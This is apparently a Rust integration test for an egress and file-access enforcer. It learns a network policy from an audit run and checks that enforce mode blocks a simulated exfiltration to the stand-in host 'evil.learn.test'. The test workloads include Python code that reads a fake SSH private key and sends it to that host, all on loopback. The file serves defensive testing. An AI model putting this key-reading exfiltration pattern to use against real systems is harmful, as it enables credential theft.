//! `enforcer policy learn`, end to end on the real kernel: run a workload
//! under the discovery policy in audit mode, learn its policy from the audit
//! log, then run the same workload under the learned policy in enforce mode.
//!
//! The workload uses real clients: curl (glibc's resolver, HTTP) and
//! Python's `socket.create_connection` (getaddrinfo, A and AAAA), names
//! answered by the test's own DNS server on loopback, plus one address it
//! reaches without DNS. Its hostile part contacts `evil.learn.test` once;
//! learned with `--exclude host=evil.learn.test`, the enforce run refuses
//! it and its listener receives zero bytes, while the agent's own traffic
//! meets zero denials.
use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener},
    os::unix::fs::PermissionsExt,
    path::Path,
    process::{Command, Stdio},
    sync::{
        atomic::{AtomicU64, Ordering},
        Arc,
    },
    thread,
    time::Duration,
};

use enforcer_tests::{dns_server::DnsServer, *};
use serde_json::Value;

/// An HTTP/1.1 server answering every request with `200 ok` (curl waits
/// for a response), counting connections and request bytes.
struct HttpSink {
    addr: SocketAddr,
    bytes: Arc<AtomicU64>,
    conns: Arc<AtomicU64>,
}

impl HttpSink {
    fn bind(ip: &str) -> Self {
        let l = TcpListener::bind(format!("{ip}:0")).unwrap();
        let addr = l.local_addr().unwrap();
        let (bytes, conns) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let (b, c) = (bytes.clone(), conns.clone());
        thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let b = b.clone();
                thread::spawn(move || {
                    let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                    let mut head = Vec::new();
                    let mut buf = [0u8; 2048];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                        match s.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => {
                                b.fetch_add(n as u64, Ordering::SeqCst);
                                head.extend_from_slice(&buf[..n]);
                            }
                        }
                    }
                    let _ = s.write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                    );
                });
            }
        });
        Self { addr, bytes, conns }
    }
}

/// The workload: the agent's own traffic, then (with `hostile`) an
/// exfiltration attempt by name and by address. Each step prints a line.
fn workload(dir: &Path, api: u16, direct: u16, evil: u16) -> std::path::PathBuf {
    let py = python().display().to_string();
    let script = format!(
        r#"#!/bin/sh
curl -sS --noproxy '*' -m 10 -o /dev/null -w 'curl %{{http_code}}\n' http://api.learn.test:{api}/v1/models
{py} - <<'EOF'
import socket
def step(name, host, port, data, read=False):
    try:
        s = socket.create_connection((host, port), timeout=10)
        s.sendall(data)
        if read:
            s.recv(64)
        s.close()
        print(name, "ok", flush=True)
    except OSError as e:
        print(name, "error", e.errno, flush=True)
step("py", "api.learn.test", {api}, b"GET /py HTTP/1.1\r\nHost: api.learn.test\r\n\r\n", True)
step("direct", "127.0.0.7", {direct}, b"direct-bytes")
import os
if os.environ.get("HOSTILE") == "1":
    step("exfil-name", "evil.learn.test", {evil}, b"EXFIL-BY-NAME")
    step("exfil-addr", "127.0.0.8", {evil}, b"EXFIL-BY-ADDRESS")
EOF
"#
    );
    let path = dir.join("workload.sh");
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// `enforcer run --policy P --audit-log A --allow-degraded -- sh workload.sh`
/// (degraded: the discovery policy's file rules need BPF LSM, which the host
/// kernel lacks; the VM runner covers them).
fn run(dir: &Path, policy: &Path, audit: &Path, script: &Path) -> (String, String) {
    let mut c = Command::new(enforcer_bin());
    c.arg("run")
        .args(["--user", "root", "--allow-degraded"])
        .arg("--policy")
        .arg(policy)
        .arg("--audit-log")
        .arg(audit)
        .arg("--pin-dir")
        .arg(dir.join("pins"))
        .env("HOSTILE", "1")
        .current_dir(dir)
        .arg("--")
        .arg("/bin/sh")
        .arg(script)
        .stdin(Stdio::null());
    let out = output_with_timeout(c, Duration::from_secs(120));
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    assert!(
        out.status.success(),
        "enforcer run failed: {:?}\nstdout:\n{stdout}\nstderr:\n{stderr}",
        out.status
    );
    (stdout, stderr)
}

fn enforcer_cmd(args: &[&str]) -> (i32, String, String) {
    let out = output_with_timeout(
        {
            let mut c = Command::new(enforcer_bin());
            c.args(args);
            c
        },
        Duration::from_secs(60),
    );
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn is_evil(r: &Value) -> bool {
    r["host"] == "evil.learn.test" || r["ip"] == "127.0.0.8"
}

#[test]
fn audit_learn_enforce_round_trip() {
    if !require_root("audit_learn_enforce_round_trip") {
        return;
    }
    let dir = TestDir::new("learn");
    let dns = DnsServer::start();
    let api = HttpSink::bind("127.0.0.5");
    let direct = TcpSink::bind("127.0.0.7:0".parse().unwrap()).unwrap();
    let evil = SinkPair::bind("127.0.0.8");
    dns.add_addrs("api.learn.test", &["127.0.0.5"]);
    dns.add_addrs("evil.learn.test", &["127.0.0.8"]);
    let script = workload(dir.path(), api.addr.port(), direct.port(), evil.port());
    let p = |f: &str| dir.join(f).display().to_string();
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();

    // 1. The discovery policy, from the CLI.
    let (code, _, err) = enforcer_cmd(&[
        "policy",
        "discover",
        "learn-rt",
        "--home",
        &home.display().to_string(),
        "--upstream",
        &dns.upstream(),
        "-o",
        &p("discover.yaml"),
    ]);
    assert_eq!(code, 0, "policy discover: {err}");
    let discover = std::fs::read_to_string(dir.join("discover.yaml")).unwrap();
    assert!(
        discover.contains("mode: audit") && discover.contains("/.ssh"),
        "{discover}"
    );

    // 2. The workload in audit mode: everything goes through, recorded.
    let (out, err) = run(
        dir.path(),
        &dir.join("discover.yaml"),
        &dir.join("audit.jsonl"),
        &script,
    );
    for step in [
        "curl 200",
        "py ok",
        "direct ok",
        "exfil-name ok",
        "exfil-addr ok",
    ] {
        assert!(
            out.contains(step),
            "audit run: no {step:?}\nstdout:\n{out}\nstderr:\n{err}"
        );
    }
    assert!(
        evil.total_bytes() > 0,
        "audit mode lets the exfiltration through"
    );

    // 3. Learn, without and with the exclusion.
    // Learn from `log` what discover.yaml's run did, leaving out its
    // exfiltration (the host and the address it reached without DNS).
    let learn_excluding = |log: &str, flag: &str, out: &str| {
        enforcer_cmd(&[
            "policy",
            "learn",
            &p(log),
            "--from",
            &p("discover.yaml"),
            "--exclude",
            "host=evil.learn.test",
            "--exclude",
            "ip=127.0.0.8",
            flag,
            &p(out),
        ])
    };
    let (code, plain, err) = enforcer_cmd(&["policy", "learn", &p("audit.jsonl")]);
    assert_eq!(code, 0, "policy learn: {err}");
    assert!(
        plain.contains("- host: \"evil.learn.test\""),
        "without --exclude the exfiltration is learned like the rest:\n{plain}"
    );
    let (code, _, err) = learn_excluding("audit.jsonl", "-o", "learned.yaml");
    assert_eq!(code, 0, "policy learn: {err}");
    let learned = std::fs::read_to_string(dir.join("learned.yaml")).unwrap();
    assert!(
        !learned.contains("- host: \"evil.learn.test\""),
        "{learned}"
    );
    assert!(!learned.contains("- cidr: 127.0.0.8/32"), "{learned}");
    for want in [
        "- host: \"api.learn.test\"",
        // The name resolves into loopback: a cidr rule vouches for it.
        "- cidr: 127.0.0.5/32",
        // Reached without DNS.
        "- cidr: 127.0.0.7/32",
        "by curl",
        "by python3",
        "mode: enforce",
        "# Excluded (--exclude host=evil.learn.test)",
    ] {
        assert!(
            learned.contains(want),
            "no {want:?} in the learned policy:\n{learned}"
        );
    }
    assert!(err.contains("loopback"), "loopback is called out: {err}");
    let (code, out, err) = enforcer_cmd(&["policy", "check", &p("learned.yaml")]);
    assert_eq!(
        code, 0,
        "policy check of the learned policy: {out}{err}\n{learned}"
    );
    let (code, diff, err) = learn_excluding("audit.jsonl", "--diff", "discover.yaml");
    assert_eq!(code, 0, "policy learn --diff: {err}");
    assert!(
        diff.lines()
            .any(|l| l.starts_with("+ egress: host api.learn.test ports [")),
        "{diff}"
    );
    assert!(diff.contains("~ mode: Audit -> Enforce"), "{diff}");
    // The same run as OCSF events (`audit tail --format ocsf`, as a daemon
    // with `auditFormat: ocsf` writes them) teaches the same policy.
    let (code, ocsf, err) = enforcer_cmd(&["audit", "tail", &p("audit.jsonl"), "--format", "ocsf"]);
    assert_eq!(code, 0, "audit tail: {err}");
    std::fs::write(dir.join("audit.ocsf.jsonl"), ocsf).unwrap();
    let (code, same, err) = learn_excluding("audit.ocsf.jsonl", "--diff", "learned.yaml");
    assert_eq!(code, 0, "policy learn of the OCSF log: {err}");
    assert_eq!(same.trim(), "no difference", "{same}");

    // 4. The same workload under the learned policy, enforced.
    let evil_before = evil.total_bytes();
    let (api_before, direct_before) = (api.bytes.load(Ordering::SeqCst), direct.bytes());
    let (out, err) = run(
        dir.path(),
        &dir.join("learned.yaml"),
        &dir.join("enforce.jsonl"),
        &script,
    );
    for step in ["curl 200", "py ok", "direct ok"] {
        assert!(
            out.contains(step),
            "enforce run: no {step:?}\nstdout:\n{out}\nstderr:\n{err}"
        );
    }
    assert!(
        !out.contains("exfil-name ok") && !out.contains("exfil-addr ok"),
        "{out}"
    );
    assert!(api.bytes.load(Ordering::SeqCst) > api_before && api.conns.load(Ordering::SeqCst) >= 4);
    assert!(direct.bytes() > direct_before);
    assert_eq!(
        evil.total_bytes(),
        evil_before,
        "the excluded destination received bytes: {}",
        evil.describe()
    );
    let recs = read_jsonl(&dir.join("enforce.jsonl"));
    let refused: Vec<&Value> = recs
        .iter()
        .filter(|r| r["verdict"] == "deny" || r["verdict"] == "audit")
        .collect();
    // Resolver IPC (nscd, systemd-resolved's varlink) is always refused, by
    // design: no policy allows it and glibc falls back to DNS. `policy
    // learn` lists those records as not learned.
    let not_evil: Vec<&&Value> = refused
        .iter()
        .filter(|r| !is_evil(r) && r["rule"] != "resolver-ipc")
        .collect();
    assert!(
        not_evil.is_empty(),
        "the agent's own traffic met denials under the learned policy:\n{not_evil:#?}"
    );
    assert!(
        refused
            .iter()
            .any(|r| r["action"] == "dns" && r["host"] == "evil.learn.test"),
        "the excluded name was not refused: {refused:#?}"
    );
    assert!(
        refused
            .iter()
            .any(|r| r["action"] == "connect" && r["ip"] == "127.0.0.8"),
        "the excluded address was not refused: {refused:#?}"
    );
}

/// The workload of the taint test: the API, then a read of the SSH key,
/// the API again (resolved again: after the read only answers that come
/// after it admit), and, when hostile, the key sent once to evil.
fn taint_workload(dir: &Path, key: &Path, api: u16, evil: u16) -> std::path::PathBuf {
    let py = python().display().to_string();
    let key = key.display();
    let script = format!(
        r#"#!/bin/sh
{py} - <<'PY'
import os, socket
def step(name, host, port, data):
    try:
        s = socket.create_connection((host, port), timeout=10)
        s.sendall(data)
        s.recv(64)
        s.close()
        print(name, "ok", flush=True)
    except OSError as e:
        print(name, "error", e.errno, flush=True)
req = b"GET / HTTP/1.1\r\nHost: api.learn.test\r\n\r\n"
step("api-before", "api.learn.test", {api}, req)
try:
    data = open("{key}", "rb").read()
    print("read ok", flush=True)
except OSError as e:
    data = b""
    print("read error", e.errno, flush=True)
step("api-after", "api.learn.test", {api}, req)
if os.environ.get("HOSTILE") == "1":
    step("exfil", "evil.learn.test", {evil}, b"POST / HTTP/1.1\r\nHost: evil.learn.test\r\n\r\n" + data)
PY
"#
    );
    let path = dir.join("taint-workload.sh");
    std::fs::write(&path, script).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// With BPF LSM (the VM runner): a secret read in the audit-mode run is
/// learned as `taint`, the egress after it as `onTaint`, and the
/// destination contacted once right after the read is called out; learned
/// with `--exclude`, the enforced agent keeps working after its read and
/// the key never reaches the exfiltration listener.
#[test]
#[ignore = "needs BPF LSM: runs inside the VM (cargo xtask vm-test)"]
fn a_secret_read_is_learned_as_taint_and_the_exfiltration_is_called_out() {
    let lsm = std::fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
    assert!(
        lsm.split(',').any(|m| m.trim() == "bpf"),
        "this test needs BPF LSM (cargo xtask vm-test); this kernel's LSMs: {lsm}"
    );
    let dir = TestDir::new("learn-taint");
    let dns = DnsServer::start();
    let api = HttpSink::bind("127.0.0.5");
    let evil = HttpSink::bind("127.0.0.8");
    dns.add_addrs("api.learn.test", &["127.0.0.5"]);
    dns.add_addrs("evil.learn.test", &["127.0.0.8"]);
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    let key = home.join(".ssh/id_ed25519");
    std::fs::write(&key, "SECRET-KEY-LEARN-8c1d").unwrap();
    let script = taint_workload(dir.path(), &key, api.addr.port(), evil.addr.port());
    let p = |f: &str| dir.join(f).display().to_string();

    let (code, _, err) = enforcer_cmd(&[
        "policy",
        "discover",
        "learn-taint",
        "--home",
        &home.display().to_string(),
        "--upstream",
        &dns.upstream(),
        "-o",
        &p("discover.yaml"),
    ]);
    assert_eq!(code, 0, "policy discover: {err}");
    let (out, err) = run(
        dir.path(),
        &dir.join("discover.yaml"),
        &dir.join("audit.jsonl"),
        &script,
    );
    for step in ["api-before ok", "read ok", "api-after ok", "exfil ok"] {
        assert!(
            out.contains(step),
            "audit run: no {step:?}\nstdout:\n{out}\nstderr:\n{err}"
        );
    }
    let recs = read_jsonl(&dir.join("audit.jsonl"));
    assert!(
        recs.iter()
            .any(|r| r["action"] == "file_open"
                && r["path"] == home.join(".ssh").display().to_string()),
        "the audit run recorded no read of ~/.ssh"
    );

    // Learned as is: taint, onTaint, and the warning.
    let (code, plain, err) = enforcer_cmd(&["policy", "learn", &p("audit.jsonl")]);
    assert_eq!(code, 0, "policy learn: {err}");
    assert!(plain.contains("access: taint"), "{plain}");
    assert!(plain.contains("onTaint:"), "{plain}");
    assert!(
        err.contains("evil.learn.test port")
            && err.contains("was contacted once, only after reading")
            && err.contains(".ssh (SSH keys)"),
        "no exfiltration warning on stderr: {err}"
    );
    assert!(
        plain.contains("# WARNING: contacted once, only after a taint read"),
        "{plain}"
    );

    // Learned with the exclusion, then enforced.
    let (code, _, err) = enforcer_cmd(&[
        "policy",
        "learn",
        &p("audit.jsonl"),
        "--from",
        &p("discover.yaml"),
        "--exclude",
        "host=evil.learn.test",
        "-o",
        &p("learned.yaml"),
    ]);
    assert_eq!(code, 0, "policy learn: {err}");
    let learned = std::fs::read_to_string(dir.join("learned.yaml")).unwrap();
    assert!(
        !learned.contains("- host: \"evil.learn.test\""),
        "{learned}"
    );
    let evil_before = evil.bytes.load(Ordering::SeqCst);
    let (out, err) = run(
        dir.path(),
        &dir.join("learned.yaml"),
        &dir.join("enforce.jsonl"),
        &script,
    );
    for step in ["api-before ok", "read ok", "api-after ok"] {
        assert!(
            out.contains(step),
            "enforce run: no {step:?}\nstdout:\n{out}\nstderr:\n{err}\npolicy:\n{learned}"
        );
    }
    assert!(!out.contains("exfil ok"), "{out}");
    assert_eq!(
        evil.bytes.load(Ordering::SeqCst),
        evil_before,
        "the key left"
    );
    let recs = read_jsonl(&dir.join("enforce.jsonl"));
    let own: Vec<&Value> = recs
        .iter()
        .filter(|r| r["verdict"] == "deny" || r["verdict"] == "audit")
        .filter(|r| !is_evil(r) && r["rule"] != "resolver-ipc")
        .collect();
    assert!(
        own.is_empty(),
        "the agent's own traffic met denials: {own:#?}\n{learned}"
    );
    assert!(
        recs.iter().any(|r| r["verdict"] == "taint"),
        "the enforced read did not taint"
    );
}
